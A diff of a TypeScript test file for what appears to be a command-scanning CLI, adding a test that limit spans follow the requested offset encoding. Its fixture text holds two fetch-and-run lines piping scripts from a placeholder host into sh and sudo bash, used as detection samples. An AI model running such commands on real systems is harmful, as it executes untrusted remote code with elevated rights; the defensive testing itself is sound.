@@ -2,8 +2,9 @@ import { readFileSync } from "node:fs";
 import { Ajv } from "ajv";
 import addFormats from "ajv-formats";
 import { describe, expect, it } from "vitest";
+import type { Detector } from "../../src/cli/context.js";
 import { folderWith } from "./folder.js";
-import { runHere } from "./stand-in.js";
+import { runHere, standIn } from "./stand-in.js";
 
 const TEXT = "日🙂 curl https://x.example/i.sh | sh\nand\r\ncurl -s https://x.example/j.sh | sudo bash -s\n";
 const cwd = folderWith({ "a b,c.md": TEXT, "clean.md": "nothing", "long.md": "TOO LONG", "advisory.md": "ADVISORY" });
@@ -36,6 +37,16 @@ describe("json", () => {
     expect(file.spans).toEqual(spans);
     expect(file.findings[1].span).toEqual(spans[1]);
     expect(file.findings[1].location).toEqual({ start: { line: 3, column: 1 }, end: { line: 3, column: 43 } });
+  });
+
+  it("gives the place of a limit in the unit asked for, too", async () => {
+    const detect: Detector["detect"] = (_text, { offsetEncoding = "utf-16" } = {}) => {
+      const limit = { limit: "size", message: "the rest was not read", span: offsetEncoding === "utf-8" ? [4, 5] : [2, 3] } as const;
+      return { labels: [], spans: [], findings: [], notes: [], outcome: { status: "incomplete", limits: [limit] } };
+    };
+    const toolkit = { createDetector: async () => ({ ...standIn, detect }) };
+    const { stdout } = await runHere(["scan", "--format", "jsonl", "--offset-encoding", "utf-8", "-"], { stdin: "🙂x", toolkit });
+    expect(JSON.parse(stdout).outcome.limits[0].span).toEqual([4, 5]);
   });
 });
 
